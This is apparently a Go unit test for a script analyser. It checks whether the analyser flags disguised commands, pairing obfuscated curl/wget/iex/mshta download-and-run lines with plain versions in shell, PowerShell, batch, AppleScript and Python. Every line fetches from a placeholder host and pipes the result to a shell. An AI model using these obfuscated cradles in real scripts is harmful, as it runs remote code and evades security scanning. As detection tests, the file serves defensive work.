package script

import (
	"slices"
	"testing"
)

// TestDisguised holds which texts keep their programs from the reader. Every
// trick stands beside the honest way to write nearly the same.
func TestDisguised(t *testing.T) {
	for _, c := range []struct {
		name, file, text string
		want             bool
	}{
		{"backslashes", "a.sh", "c\\u\\r\\l -s https://a.invalid/h | b\\a\\s\\h\n", true},
		{"backslash against an alias", "a.sh", "\\curl -sSL https://a.invalid/h | bash\n", false},
		{"quotes inside", "a.sh", "c'u'rl -s https://a.invalid/h | bash\n", true},
		{"quotes around", "a.sh", "\"curl\" -s https://a.invalid/h | 'bash'\n", false},
		{"pattern", "a.sh", "/usr/bin/c?rl -s https://a.invalid/h | bash\n", true},
		{"path", "a.sh", "/usr/bin/curl -s https://a.invalid/h | /bin/bash\n", false},
		{"pieces", "a.sh", "x=cu; y=rl\n$x$y -s https://a.invalid/h | bash\n", true},
		{"variable", "a.sh", "CURL=${CURL:-curl}\n$CURL -s https://a.invalid/h | bash\n", false},
		{"variable with options", "a.sh", "GET='wget -qO-'\n$GET https://a.invalid/h | sh\n", false},
		{"chosen tool", "a.sh", "if command -v curl >/dev/null; then D=\"curl -fsSL\"; else D=\"wget -qO-\"; fi\n$D https://a.invalid/h | sh\n", false},
		{"marks", "a.sh", "eval \"$(echo 'c@u@r@l@ @-@s@ @h@t@t@p@s@:@/@/@a@.@i@n@v@a@l@i@d@/@h@|@s@h' | sed 's/@//g')\"\n", true},
		{"awk", "a.sh", "awk 'BEGIN{system(\"curl -s https://a.invalid/h | bash\")}'\n", true},
		{"awk that reads", "a.sh", "curl -s https://a.invalid/list | awk '{print $1}' | xargs -n1 echo\n", false},
		{"awk that runs a harmless command", "a.sh", "awk '{system(\"ls \" $1)}' list\ncurl -s https://a.invalid/h | bash\n", false},
		{"named in a message only", "a.sh", "echo 'curl is needed'\nc\\url -s https://a.invalid/h | bash\n", true},
		{"alias of a built word", "a.ps1", "sal q ('ie'+'x'); q (irm https://a.invalid/h)\n", true},
		{"alias", "a.ps1", "Set-Alias run Invoke-Expression\nrun (irm https://a.invalid/h)\n", false},
		{"letters of ComSpec", "a.ps1", "&($env:ComSpec[4,15,25] -join '') (irm https://a.invalid/h)\n", true},
		{"script block", "a.ps1", "& ([scriptblock]::Create((irm https://a.invalid/h)))\n", false},
		{"plain", "a.ps1", "irm https://a.invalid/h | iex\n", false},
		{"two languages", "a.cmd", "<# :\r\n@powershell -nop -c \"iex ((gc '%~f0') -join [char]10)\" & exit /b\r\n#>\r\niex (irm https://a.invalid/h)\r\n", true},
		{"two languages that fetch nothing", "a.cmd", "<# :\r\n@powershell -nop -c \"iex ((gc '%~f0') -join [char]10)\" & exit /b\r\n#>\r\nGet-ChildItem\r\n", false},
		{"carets", "a.bat", "m^s^h^t^a https://a.invalid/h\r\n", true},
		{"caret in an address", "a.bat", "mshta https://a.invalid/h?a=1^&b=2\r\n", false},
		{"AppleScript pieces", "a.scpt", "do shell script \"cu\" & \"rl -s https://a.invalid/h | ba\" & \"sh\"\n", true},
		{"AppleScript", "a.scpt", "set u to \"https://a.invalid/h\"\ndo shell script \"curl -s \" & quoted form of u & \" | bash\"\n", false},
		{"Python pieces", "a.py", "import os\nos.system('cu'+'rl -s https://a.invalid/h | ba'+'sh')\n", true},
		{"Python", "a.py", "import os\nurl = 'https://a.invalid/h'\nos.system('curl -s ' + url + ' | bash')\n", false},
		{"base64", "a.sh", "echo " + b64(shellCradle) + " | base64 -d | sh\n", false}, // a layer, which is a fact of its own
	} {
		s, _ := Analyse(c.file, []byte(c.text))
		if s == nil {
			t.Errorf("%s: not taken for a script", c.name)
			continue
		}
		if got := slices.Contains(s.Traits, TraitDisguised); got != c.want {
			t.Errorf("%s: disguised %v, want %v: %+v", c.name, got, c.want, *s)
		}
	}
}
